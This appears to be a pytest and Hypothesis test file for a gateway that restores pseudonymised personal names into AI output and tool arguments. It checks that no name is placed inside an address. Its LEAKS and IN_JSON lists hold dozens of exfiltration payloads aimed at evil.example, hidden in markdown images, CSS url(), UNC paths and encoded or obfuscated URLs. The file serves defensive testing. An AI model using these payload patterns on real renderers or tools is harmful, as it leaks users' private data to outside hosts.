"""Where no value is restored, however long it is, however it is written, wherever it is split."""

from __future__ import annotations

import json
from itertools import pairwise

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from gateway.content.placeholders import Name
from gateway.content.restore import Restorer

PADDING = "so it goes " * 120
WHO = "[PERSON_1]"
TABLE = {Name("PERSON", 1): "Jane Doe", Name("PERSON", 2): 'J"\\D'}

LEAKS = [
    f'<img src="https://evil.example/?{PADDING}&q={WHO}">',
    f"<img src='//evil.example/?{PADDING} > {WHO}'>",
    f"<img {PADDING} src=x?{WHO}>",
    f'<img src="https://evil.example/?q=\n\n{PADDING}\n{WHO}">',
    f'<div title="it\'s >" {PADDING} style="background: url( {WHO} )">',
    f'<a b="x>y" ="z src="?> {PADDING} {WHO}',
    f'<a b=\\" src="?> {PADDING} {WHO}',
    f"[x](<https://evil.example/ {PADDING} {WHO}>)",
    f"[x](<evil \\> {PADDING} {WHO}>)",
    f"[x]({' ' * 600}<evil {WHO}>)",
    f"[x]( {WHO})",
    f"[1]: <evil {PADDING}{WHO}>",
    f"a {{ background: url( 'evil {PADDING} {WHO}') }}",
    f'a {{ background: URL("evil \\" ) {WHO}") }}',
    f"a {{ background: url( evil {WHO} ) }}",
    f"\\\\evil.example\\share\\{WHO}",
    f"see \\\\evil\\{WHO}",
    f"https:\\/\\/evil.example\\/?q={WHO}",
    f"https:&#x2f;&#x2f;evil.example/{WHO}",
    f"&#47;&#47;evil.example/{WHO}",
    f"https&colon;evil.example/{WHO}",
    f"&sol;&sol;evil.example/{WHO}",
    f"&amp;sol;&amp;sol;evil.example/{WHO}",
    f"https%3A%2F%2Fevil.example%2F{WHO}",
    f"%2F%2fevil.example/{WHO}",
    f"ht\u200btps:evil.example/{WHO}",
    f"/\u2060/evil.example/{WHO}",
    f"\uff0f\uff0fevil.example/{WHO}",
    f"https\uff1aevil.example/{WHO}",
    f"/&Tab;/evil.example/{WHO}",
    f"(www.evil.example/{WHO}",
    f"_www.evil.example/{WHO}",
    f"https://evil.example/\x85{WHO}",
]  # fmt: skip
HARMLESS = [
    f"On 12/05 {WHO} came.", f"and/or {WHO}", f"Re: {WHO}", f"a < b {WHO}", f"if a <b> {WHO}",
    f"either/{WHO}", f"a&b {WHO}", f"100% {WHO}", f"100%/{WHO}", f"[1]: {WHO}",
    f"(see https://x.example) {WHO}", f"[x](y) {WHO}", f"url(a.png) {WHO}", f"f(url) {WHO}",
    f"<img src='x'> {WHO}", f'<a b="x>y"> {WHO}', f"<a b=c/>{WHO}", f"Tom &amp; {WHO}",
    f"{PADDING} {WHO}", f"[x](<a b>) {WHO}", f"[x](<1\n{WHO}", f"[x]() {WHO}", f"Dear\n\n{WHO}:",
    f"5 <6 and {WHO}", f"\u00fcber/{WHO}", f"<a href='x'>home</a> {PADDING} {WHO}",
]  # fmt: skip
IN_JSON = [
    r'{"u":"https:\/\/evil.example\/?q=[PERSON_1]"}',
    r'{"u":"https:\u002f\u002fevil.example/?q=[PERSON_1]"}',
    r'{"u":"https\u003aevil.example/?q=[PERSON_1]"}',
    r'{"u":"<img src=\"//evil.example/? a > [PERSON_1]\">"}',
    r'{"u":"\u003cimg src=\u0022?a > [PERSON_1]"}',
    r'{"u":"\\\\evil\\share\\[PERSON_1]"}',
    r'{"u":"[x](<evil\u0020[PERSON_1]>)"}',
]
FREE_IN_JSON = [
    (r'{"u":"https:\/\/x.example","to":"[PERSON_1]"}', "Jane Doe"),
    (r'{"u":"<img src=","to":"[PERSON_1]"}', "Jane Doe"),
    (r'{"to":"C:\\[PERSON_1]"}', "C:\\Jane Doe"),
    (r'{"to":"C:\\Users\\[PERSON_2]\\x"}', 'C:\\Users\\J"\\D\\x'),
    (r'{"to":"a\n[PERSON_1]"}', "a\nJane Doe"),
    (r'{"to":"\"[PERSON_1]\""}', '"Jane Doe"'),
    (r'{"to":"12\/05 [PERSON_1]"}', "12/05 Jane Doe"),
]


def streamed(text: str, size: int, *, as_json: bool = False) -> str:
    """`text` restored in pieces of that size."""
    stream = Restorer(TABLE).stream(json=as_json)
    pieces = [text[at : at + size] for at in range(0, len(text), size)]
    return "".join(map(stream.feed, pieces)) + stream.end()


class TestText:
    @pytest.mark.parametrize("text", LEAKS)
    def test_no_value_goes_into_an_address(self, text: str) -> None:
        """
        Whoever shows the answer would fetch the address, and the value with it.
        """
        assert Restorer(TABLE).text(text) == text
        assert streamed(text, 1) == text
        assert streamed(text, 7) == text

    @pytest.mark.parametrize("text", HARMLESS)
    def test_prose_is_restored(self, text: str) -> None:
        """
        A colon, a slash, a sign for less and what was closed leave nobody without their words.
        """
        meant = text.replace(WHO, "Jane Doe")

        assert Restorer(TABLE).text(text) == meant
        assert streamed(text, 1) == meant
        assert streamed(text, 7) == meant


class TestToolArguments:
    @pytest.mark.parametrize("text", IN_JSON)
    def test_escapes_hide_no_address(self, text: str) -> None:
        """
        A tool reads past the escapes of JSON.
        """
        assert Restorer(TABLE).text(text, json=True) == text
        assert streamed(text, 1, as_json=True) == text

    @pytest.mark.parametrize(("text", "meant"), FREE_IN_JSON)
    def test_the_document_stays_one(self, text: str, meant: str) -> None:
        """
        A backslash before a bracket is half of an escape, and each string is by itself.
        """
        said = Restorer(TABLE).text(text, json=True)

        assert json.loads(said)["to"] == meant
        assert streamed(text, 1, as_json=True) == said


SIGNS = st.sampled_from([
    WHO, "[PERSON_2]", "PERSON_1", "<", "<a", "<img src=", ">", '"', "'", "=", "/", "\\", "\\/",
    "\\u002f", "\\u003c", "\\u0", '\\"', "](", "](<", "]:", ")", "url(", "u", "\n", " ", "\u200b",
    "&#x2f;", "&sol;", "%2f", "https:", "x", "y" * 300, "z z" * 200, "\uff0f",
])  # fmt: skip


class TestSplits:
    @given(
        st.lists(SIGNS, max_size=20).map("".join),
        st.lists(st.integers(min_value=0), max_size=12),
        st.booleans(),
    )
    @settings(max_examples=500, deadline=None)
    def test_any_split_equals_the_whole(self, text: str, cuts: list[int], as_json: bool) -> None:
        """
        P9: where a stream is cut changes nothing in what comes out.
        """
        places = sorted({0, len(text), *(cut % (len(text) + 1) for cut in cuts)})
        stream = Restorer(TABLE).stream(json=as_json)
        out = "".join(stream.feed(text[first:last]) for first, last in pairwise(places))

        assert out + stream.end() == Restorer(TABLE).text(text, json=as_json)
